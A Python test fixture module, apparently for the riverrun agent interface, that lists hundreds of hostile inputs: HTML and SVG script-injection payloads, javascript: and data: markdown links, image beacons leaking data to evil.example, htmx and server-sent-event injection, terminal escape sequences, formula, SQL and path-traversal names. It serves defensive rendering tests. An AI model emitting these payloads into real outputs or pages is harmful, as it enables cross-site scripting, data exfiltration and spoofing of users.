"""What somebody would write who wants it to be more than text, wherever riverrun shows it.

All of it works, if anything does, by calling `trap`, by asking evil.example for something or riverrun itself for an
address with `trap` in it, or by taking a page's own elements away. So whoever watches needs to look for these only.
"""

from collections.abc import Iterable, Iterator
from typing import NamedTuple
from uuid import UUID

from riverrun.agents.events import AgentComplete, AgentStart, CodeChange, Error, Event, Interaction, Progress, Start
from tests.rendering.runs import MESSAGE, OTHER, complete

HTML = [
    "<script>trap(1)</script>",
    "<ScRiPt>trap(2)</sCrIpT>",
    "<script src=https://evil.example/a.js></script>",
    "<script src=//evil.example/b.js async></script>",
    "<script type=module>import 'https://evil.example/c.js'</script>",
    '<script>document.title="trap"</script >',
    "<scr<script>ipt>trap(3)</scr</script>ipt>",
    "<script\n>trap(4)</script\t>",
    "<script/x>trap(5)</script>",
    "<\x00script>trap(6)</script>",
    "<script>trap(7)//",
    "</script><script>trap(8)</script>",
    "<!--><script>trap(9)</script>-->",
    "<!-- --!><img src=x onerror=trap(10)>",
    "<![CDATA[<script>trap(11)</script>]]>",
    "<?xml version='1.0'?><script>trap(12)</script>",
    "<img src=x onerror=trap(13)>",
    "<img src=x onerror='trap(14)'//",
    '<img src="https://evil.example/pixel.png">',
    "<img src=/trap.png>",
    "<img srcset='https://evil.example/2x.png 2x'>",
    "<image src=x onerror=trap(15)>",
    "<img/src=x/onerror=trap(16)>",
    "<img src=`x` onerror=trap(17)>",
    "<img\tsrc=x\nonerror\r=\x0ctrap(18)>",
    "<picture><source srcset=https://evil.example/p.png><img></picture>",
    "<video src=https://evil.example/v.mp4 autoplay onplay=trap(19)></video>",
    "<video poster=https://evil.example/v.png></video>",
    "<audio src=x onerror=trap(20)></audio>",
    "<track src=https://evil.example/t.vtt default>",
    "<body onload=trap(21)>",
    "<body background=https://evil.example/bg.png>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>parent.trap(22)</script>'></iframe>",
    "<iframe src=javascript:parent.trap(23)></iframe>",
    "<object data=https://evil.example/o></object>",
    "<embed src=https://evil.example/e>",
    "<applet code=trap></applet>",
    "<frameset onload=trap(24)></frameset>",
    "<input autofocus onfocus=trap(25)>",
    "<select autofocus onfocus=trap(26)></select>",
    "<textarea autofocus onfocus=trap(27)></textarea>",
    "<details open ontoggle=trap(28)>x</details>",
    "<dialog open onclose=trap(29)>x</dialog>",
    "<div popover id=trap-popover onbeforetoggle=trap(30)>x</div>",
    "<marquee onstart=trap(31)>x</marquee>",
    "<div style='animation:a' onanimationstart=trap(32)>x</div>",
    "<div style='background:url(https://evil.example/s.png)'>x</div>",
    "<style>*{display:none}@import 'https://evil.example/s.css';</style>",
    "<link rel=stylesheet href=https://evil.example/l.css>",
    "<link rel=preconnect href=https://evil.example>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Send</button></form>",
    "<button formaction=https://evil.example/ form=composer>Send</button>",
    "<input form=composer name=content value=trap>",
    "<a href=https://evil.example/ ping=https://evil.example/ping>x</a>",
    "<a href=javascript:trap(33)>x</a>",
    "<isindex action=javascript:trap(34)>",
    "<template><script>trap(35)</script></template>",
    "<div><template shadowrootmode=open><script>trap(36)</script></template></div>",
    "<noscript><p title='</noscript><img src=x onerror=trap(37)>'>",
    "<xmp><img src=x onerror=trap(38)></xmp>",
    "<plaintext>",
    "<listing>&lt;img src=x onerror=trap(39)&gt;</listing>",
    "<title><img src=x onerror=trap(40)></title>",
    '<script type=importmap>{"imports":{"a":"https://evil.example/m.js"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["/trap"]}]}</script>',
    "<custom-trap onclick=trap(41) id=messages>x</custom-trap>",
    "<p id=composer name=content>taken</p>",
    "<img name=body><form name=getElementById>",
]

BREAKING_OUT = [
    '"><script>trap(50)</script>',
    "'><script>trap(51)</script>",
    '" onmouseover="trap(52)',
    "' onmouseover='trap(53)",
    '" autofocus onfocus="trap(54)" x="',
    "x onfocus=trap(55) autofocus=",
    "`><script>trap(56)</script>",
    "</textarea><script>trap(57)</script>",
    "</title><script>trap(58)</script>",
    "</template></article></main><script>trap(59)</script>",
    "</style><script>trap(60)</script>",
    "</summary></details><img src=x onerror=trap(61)>",
    "</option></select><img src=x onerror=trap(62)>",
    "</code></pre></figure><img src=x onerror=trap(63)>",
    "--><script>trap(64)</script><!--",
    "<!-- the reply, as it comes -->",
    "]]><script>trap(65)</script>",
    "&lt;script&gt;trap(66)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;trap(67)",
    "&#60;script&#62;trap(68)&#60;/script&#62;",
    "&#x3c;img src=x onerror=trap(69)&#x3e;",
    "&lt\nimg src=x onerror=trap(70)>",
    "\\u003cscript\\u003etrap(71)\\u003c/script\\u003e",
    "\\x3cscript\\x3etrap(72)",
    "%3Cscript%3Etrap(73)%3C/script%3E",
    "+ADw-script+AD4-trap(74)+ADw-/script+AD4-",
    "';trap(75);//",
    '";trap(76);//',
    "${trap(77)}",
    "`${trap(78)}`",
    "</script",
    "<",
    '"',
    "'",
    "&",
]

FOREIGN_ELEMENTS = [
    "<svg onload=trap(80)>",
    "<svg/onload=trap(81)>",
    "<svg><script>trap(82)</script></svg>",
    "<svg><script href=https://evil.example/s.js></script></svg>",
    "<svg><a xlink:href=javascript:trap(83)><text>x</text></a></svg>",
    "<svg><animate onbegin=trap(84) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to=trap(85)></svg>",
    "<svg><use href=https://evil.example/u.svg#x></svg>",
    "<svg><image href=https://evil.example/i.png /></svg>",
    "<svg><foreignObject><img src=x onerror=trap(86)></foreignObject></svg>",
    "<svg><style><img src=x onerror=trap(87)></style></svg>",
    "<svg></p><style><g title='</style><img src=x onerror=trap(88)>'>",
    "<svg><desc><![CDATA[</desc><img src=x onerror=trap(89)>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=trap(90)>'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=trap(91)></annotation-xml></math>",
    "<math href=javascript:trap(92)>x</math>",
    "<math><mi xlink:href=javascript:trap(93)>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=trap(94)>",
    "<table><td><svg><title><img src=x onerror=trap(95)>",
    "<noembed><img title='</noembed><img src=x onerror=trap(96)>'></noembed>",
    "<select><template><img src=x onerror=trap(97)></template></select>",
]

MARKDOWN = [
    "[a](javascript:trap(100))",
    "[a](JaVaScRiPt:trap(101))",
    "[a](java\tscript:trap(102))",
    "[a](<java\nscript:trap(103)>)",
    "[a](\x01javascript:trap(104))",
    "[a](&#106;avascript:trap(105))",
    "[a](javascript&colon;trap(106))",
    "[a](java&Tab;script:trap(107))",
    "[a](java&NewLine;script:trap(108))",
    "[a](javascript&#x3A;trap(109))",
    "[a](%6Aavascript:trap(110))",
    "[a](javascript%3Atrap(111))",
    "[a]( javascript:trap(112))",
    "[a](< javascript:trap(113)>)",
    "[a](\u00a0javascript:trap(114))",
    "[a](\u2028javascript:trap(115))",
    "[a](ｊavascript:trap(116))",
    "[a](javascript://example.org/%0Atrap(117))",
    "[a](data:text/html,<script>trap(118)</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD50cmFwKDExOSk8L3NjcmlwdD4=)",
    "[a](data:image/svg+xml,<svg onload=trap(120)>)",
    "[a](vbscript:trap)",
    "[a](blob:https://evil.example/1)",
    "[a](file:///etc/passwd)",
    "[a](filesystem:https://evil.example/x)",
    "[a](view-source:javascript:trap(121))",
    "[a](ms-settings:trap)",
    "[a](//evil.example/x)",
    "[a](\\\\evil.example\\x)",
    "[a](/tokens)",
    "[a](/c/x/../../trap)",
    "[a](./trap)",
    "[a](?trap=1)",
    '[a](https://example.org/ "\\" onmouseover=trap(122) x=\\"")',
    "[a](https://example.org/ '&quot; onmouseover=&quot;trap(123)')",
    '[a](https://example.org/"onmouseover="trap(124))',
    "[a](https://example.org/'><img src=x onerror=trap(125)>)",
    '[a](<https://example.org/"><script>trap(126)</script>>)',
    "[<img src=x onerror=trap(127)>](https://example.org)",
    "[a][trap-1]\n\n[trap-1]: javascript:trap(128)",
    "[a][trap-2]\n\n[trap-2]: https://example.org '\"><script>trap(129)</script>'",
    "[a]: data:text/html,trap 'x'\n\n[a]",
    "<javascript:trap(130)>",
    "<data:text/html,trap>",
    '<https://example.org/"onmouseover=trap(131)>',
    "<trap@evil.example>",
    'https://example.org/"onmouseover=trap(132)',
    "https://example.org/<script>trap(133)</script>",
    "https://user:password@evil.example@example.org/",
    "![pixel](https://evil.example/pixel.png?said=secret)",
    "![pixel](http://evil.example/pixel.png)",
    "![pixel](//evil.example/pixel.png)",
    "![pixel](https://example.org@evil.example/pixel.png)",
    "![x](javascript:trap(134))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9dHJhcCgpPg==)",
    "![x](/trap.png)",
    '![" onerror="trap(135)](https://evil.example/a.png)',
    "![x](https://evil.example/a.png '\" onload=\"trap(136)')",
    "[![pixel](https://evil.example/a.png)](https://evil.example/b)",
    "![a][trap-3]\n\n[trap-3]: https://evil.example/c.png",
    "![![![deep](https://evil.example/d.png)](x)](y)",
    "<img src=https://evil.example/e.png alt=`code`>",
    "```html onload=trap(137)\n<script>trap(138)</script>\n```",
    '```"><script>trap(139)</script>\nx\n```',
    "```x' onclick='trap(140)\nx\n```",
    "~~~<img src=x onerror=trap(141)>\nx\n~~~",
    "```\n</code></pre><script>trap(142)</script>\n```",
    "`<script>trap(143)</script>`",
    "`` ` ``<script>trap(144)</script>`",
    "    <script>trap(145)</script>",
    '| <script>trap(146) | x |\n|:--" onclick=trap(147)|--|\n| [a](javascript:trap(148)) | <img onerror=trap(149)> |',
    "> <script>trap(150)</script>",
    "- [ ] <script>trap(151)</script>\n- [x](javascript:trap(152)) <b onclick=trap(153)>x",
    "1. <img\n2. src=x onerror=trap(154)>",
    "# <script>trap(155)</script> {#x onclick=trap(156)}",
    "<script>trap(157)</script>\n===",
    "**<script>trap(158)</script>**_<img src=x onerror=trap(159)>_~~<svg onload=trap(160)>~~",
    "*[abbr]: <script>trap(161)</script>",
    "[^1]\n\n[^1]: <script>trap(162)</script>",
    "$$\\href{javascript:trap(163)}{x}$$",
    "\\<script>trap(164)\\</script>",
    "<script>\n\ntrap(165)\n\n</script>",
    "<div\n\nonclick=trap(166)>",
    "a<!-- -->b<!---><script>trap(167)</script>-->",
]

TEMPLATES = [
    "{{7*7}}",
    "{{ config }}{{ self.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{% raw %}<script>trap(170)</script>{% endraw %}",
    "{#<script>#}trap(171){#</script>#}",
    "{{ '<script>trap(172)</script>'|safe }}",
    "#{7*7}<%= 7*7 %>${{7*7}}[[7*7]]",
]

HTMX = [
    "<div hx-get=https://evil.example/ hx-trigger=load></div>",
    "<div hx-get=/trap hx-trigger=load></div>",
    "<div hx-post=/trap hx-trigger='every 10ms'></div>",
    "<div data-hx-get=/trap data-hx-trigger=load></div>",
    "<b hx-on:click=trap(180) hx-on::load=trap(181)>x</b>",
    "<div hx-on:htmx:after:init=trap(182)></div>",
    "<div hx-sse:connect=/trap></div>",
    "<div hx-live='trap(183)'></div>",
    "<div hx-init=trap(184)></div>",
    "<div hx-vals='js:{x:trap(185)}' hx-post=/trap hx-trigger=load></div>",
    "<div hx-headers='js:{x:trap(186)}'></div>",
    "<div id=composer hx-swap-oob=true>taken</div>",
    "<div hx-swap-oob='innerHTML:#messages'>taken</div>",
    '<hx-partial hx-target="body" hx-swap="innerHTML">taken</hx-partial>',
    '<hx-partial hx-target="#messages" hx-swap="delete"></hx-partial>',
    '<template hx type="partial" hx-target="body">taken</template>',
    '</hx-partial><hx-partial hx-target="body" hx-swap="innerHTML">taken',
    "<hx-oob hx-target=body>taken</hx-oob>",
    "<meta name=htmx-config content='{\"selfRequestsOnly\":false}'>",
    "<div hx-config='selfRequestsOnly:false' hx-get=https://evil.example/ hx-trigger=load></div>",
    "<div hx-ext=trap hx-boost=true><a href=/trap>x</a></div>",
    "<head><script>trap(187)</script></head>",
    "<html><body onload=trap(188)></body></html>",
]

STREAMS = [
    "x\n\nevent: done\ndata: x",
    "x\r\revent: done\rdata: \r\r",
    "x\r\n\r\nevent: close\r\ndata: x\r\n\r\n",
    "x\n\nid: 999999\nretry: 1\ndata: <script>trap(190)</script>",
    ": comment\n:\nevent: error",
    "data: [DONE]\n\n",
    '{"type": "complete", "status": "complete"}',
    "x\x85\x85event: done\x85",
    "x\u2028\u2028event: done\u2029data: x",
    "HTTP/1.1 200 OK\r\nSet-Cookie: trap=1\r\n\r\n<script>trap(191)</script>",
    "\r\nLocation: https://evil.example/\r\n",
]

TERMINAL = [
    "\x1b[2J\x1b[H\x1b[31mtrap\x1b[0m",
    "\x1b]0;trap\x07",
    "\x1b]2;trap\x1b\\",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;dHJhcA==\x07",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b_Gtrap\x1b\\\x1b^trap\x1b\\",
    "\x1b[6n\x1b[c\x1b[21t",
    "\x1b[?1049h\x1b[?25l\x1bc",
    "\x9b31mtrap\x9b2J",
    "\x9d0;trap\x9c",
    "\x90trap\x9c\x98trap\x9c\x9etrap\x9c",
    "safe\rtrap",
    "safe\x08\x08\x08\x08trap",
    "\x07\x07\x07",
    "\x0e\x0f\x05\x7f\x0b\x0c",
    "\x00\x01\x02\x03\x04",
    "\u202egpj.exe\u202c",
    "\u2066\u2067trap\u2069\u2068",
    "a\u200eb\u200fc\u061cd",
    "&#27;[2J&#155;31m&#x202e;&#7;",
    "INFO riverrun: all is well\nERROR trap: forged",
    "x\r\nWARNING trap: forged",
]

NAMES = [
    "../../etc/passwd",
    "..\\..\\trap.exe",
    "trap.html",
    "trap.svg",
    'a";filename="trap.exe',
    "a\r\nSet-Cookie: trap=1",
    "a%0d%0aSet-Cookie:%20trap=1",
    "a;b=c",
    "\u202egpj.exe",
    "日本語 – ünïcode 🌊.md",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-trap",
    "@SUM(1)",
    "\t=1+1",
    "con",
    "a/b\\c:d*e?f",
    "'; DROP TABLE messages; --",
    "%s%n%x{0}{trap}",
    "null",
    "__proto__",
    "constructor",
]

UNICODE = [
    "＜script＞trap(200)＜/script＞",
    "\u02c2script\u02c3trap(201)",
    "<\u0130mg src=x onerror=trap(202)>",
    "<ſcript>trap(203)</ſcript>",
    "\ufeff<script>trap(204)</script>",
    "Z̴̡̢̛̗͇̈́͊ͅalgo" * 20,
    "\U000e0041\U000e0042 tags that nobody sees",
    "\u200b\u200c\u200d\u2060",
    "e\u0301" * 200,
    "👩‍👩‍👧‍👦" * 50,
    "\ud83d",
    "\ufffe\uffff",
]

LONG = [
    "<" * 1_000,
    "[" * 1_000,
    "![" * 500,
    "<a " * 500,
    "&" * 1_000,
    "`" * 1_000,
    "*" * 1_000 + "x",
    "> " * 500 + "<script>trap(210)</script>",
    "- " * 300 + "<script>trap(211)</script>",
    "<b>" * 1_000,
    "x" * 19_990 + "<script>trap(212)</script>",
    "[a](" + "(" * 500,
    "|" * 500 + "\n" + "|-" * 500 + "\n" + "<script>trap(213)</script>|" * 20,
]

SHORT = [*HTML, *BREAKING_OUT, *FOREIGN_ELEMENTS, *MARKDOWN, *TEMPLATES, *HTMX, *STREAMS, *TERMINAL, *NAMES, *UNICODE]
ALL = [*SHORT, *LONG]


class Cut(NamedTuple):
    """A way in which a model could send a text: so many characters at a time."""

    size: int

    def pieces(self, text: str) -> list[str]:
        return [text[start : start + self.size] for start in range(0, len(text), self.size)]


CUTS = (Cut(1), Cut(2), Cut(7))


def without_halves(text: str) -> str:
    """Where only whole characters can be sent."""
    return text.encode(errors="replace").decode()


def fitting(limit: int) -> list[str]:
    """Those that are short enough for a field."""
    return [text for text in SHORT if len(text) <= limit]


def run_of(told: Iterable[tuple[str, str]]) -> list[Event]:
    """One in which everything that can be told is hostile: for each name and text an agent that helps, and one more."""
    pairs = list(told)
    name, text = pairs[-1]
    events: list[Event] = [
        Start(conversation_id=OTHER, user_message_id=OTHER, message_id=MESSAGE, team=name, model=name)
    ]
    for turn, (name, text) in enumerate(pairs, 1):
        events += turn_of(turn, name, text)
    last = len(pairs) + 1
    return [
        *events,
        AgentStart(agent=name, turn=last, role=text),
        AgentComplete(agent=name, turn=last, content=text, duration_ms=1),
        Error(message=text, code=name, retryable=True),
        complete("failed", text),
    ]


def turn_of(turn: int, name: str, text: str) -> Iterator[Event]:
    given = {"path": name, "content": text, name: [text, {name: text}]}
    found = {"passages": [{"document": name, "heading": name, "address": name, "text": text}]}
    call, other = f"{turn} {name}", f"other {turn} {name}"
    told = {name: text, "seconds_left": text}
    yield Progress(fraction=0.5, step=name, message=name, details=text, metadata=told)
    yield AgentStart(agent=name, turn=turn, role=name, task=text, lane="support")
    yield Interaction(agent=name, turn=turn, kind="thought", content=text)
    yield Interaction(agent=name, turn=turn, kind="memory", content=text)
    yield Interaction(agent=name, turn=turn, kind="message", content=text, to_agent=name)
    yield Interaction(agent=name, turn=turn, kind="retrieval", content=text, tool_arguments=found)
    yield Interaction(agent=name, turn=turn, kind="tool_call", tool_name=name, tool_arguments=given, call_id=call)
    yield Interaction(agent=name, turn=turn, kind="tool_response", tool_name=name, content=text, call_id=call)
    yield Interaction(agent=name, turn=turn, kind="tool_response", tool_name=name, content=text, call_id=other)
    yield CodeChange(path=name, change="modified", diff=f"--- {name}\n+++ {name}\n{text}", revision_id=UUID(int=4))
    yield AgentComplete(agent=name, turn=turn, content=text, duration_ms=1, finish_reason=name)
